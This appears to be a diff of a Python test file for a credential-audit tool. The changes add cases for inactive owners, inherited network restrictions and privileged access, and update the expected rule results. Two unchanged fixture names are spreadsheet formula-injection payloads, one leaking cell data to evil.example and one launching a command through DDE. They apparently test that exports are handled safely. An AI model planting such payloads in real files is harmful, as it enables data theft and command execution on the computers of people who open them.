@@ -48,6 +48,16 @@ EXPECTED: dict[str, set[str]] = {
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")': set(),
     "@SUM(1+1)*cmd|' /C calc'!A0": set(),
     "unknown scoped role id": set(),
+    "HR-terminated owner": {"inactive-owner"},
+    "service user key": set(),
+    "agent user key": set(),
+    "break-glass owner, full": {"full-owner-access", "privileged-access"},
+    # no list of its own, but it holds Super Administrator: the tenant's admin list restricts it
+    "admin full, tenant allow list only": {"full-owner-access", "privileged-access"},
+    "admin scoped to viewer, no CIDR": {
+        "no-source-restriction (manual)",
+        "broad-source-restriction (manual)",
+    },
 }
 
 
@@ -68,14 +78,19 @@ def failing_rules(
             rules.add("expired")
         elif c.expires_at <= as_of + 14 * DAY:
             rules.add("expiring-soon")
-    if not c.allowed_cidrs:
+    inherited = c.inherited_restriction
+    state = "none" if c.allowed_cidrs or inherited is None else inherited.state
+    networks = c.allowed_cidrs or (inherited.cidrs if inherited else ())
+    if not c.allowed_cidrs and state == "none":
         rules.add("no-source-restriction")
-    if any(n.prefixlen < (16 if n.version == 4 else 48) for n in c.allowed_cidrs):
+    if state == "unknown":
+        rules |= {"no-source-restriction (manual)", "broad-source-restriction (manual)"}
+    if any(n.prefixlen < (16 if n.version == 4 else 48) for n in networks):
         rules.add("broad-source-restriction")
     if c.scope_mode == "full":
         rules.add("full-owner-access")
-    effective = set(c.owner.roles) if c.scope_mode == "full" else set(c.scopes) & set(c.owner.roles)
-    if "system:owner" in effective:
+    assert c.privilege is not None
+    if "system:owner" in c.privilege.roles:
         rules.add("privileged-access")
     if c.owner.status in ("disabled", "deleted", "not_found"):
         rules.add("inactive-owner")
@@ -95,7 +110,7 @@ def test_every_rule_fires_where_documented(fake_time: FakeTime) -> None:
     actual = {c.name: failing_rules(c, ANCHOR, unexpired) for c in creds}
     assert actual == EXPECTED
     fired = set().union(*actual.values())
-    assert fired == {
+    assert fired - {"no-source-restriction (manual)", "broad-source-restriction (manual)"} == {
         "stale",
         "never-used",
         "no-expiry",
@@ -110,7 +125,7 @@ def test_every_rule_fires_where_documented(fake_time: FakeTime) -> None:
         "too-many-per-owner",
     }
     statuses = Counter(c.owner.status for c in creds if "inactive-owner" in actual[c.name])
-    assert statuses == {"disabled": 2, "deleted": 1, "not_found": 1}
+    assert statuses == {"disabled": 3, "deleted": 1, "not_found": 1}
     wide = {
         str(n)
         for c in creds
@@ -141,4 +156,4 @@ def test_curated_timestamps_use_0_3_6_and_9_fractional_digits() -> None:
 def test_curated_data_depends_only_on_seed_and_anchor() -> None:
     assert make_sim(seed=5).ground_truth() == make_sim(seed=5).ground_truth()
     assert make_sim(seed=5).ground_truth() != make_sim(seed=6).ground_truth()
-    assert len(make_sim().ground_truth()) == 38
+    assert len(make_sim().ground_truth()) == 44
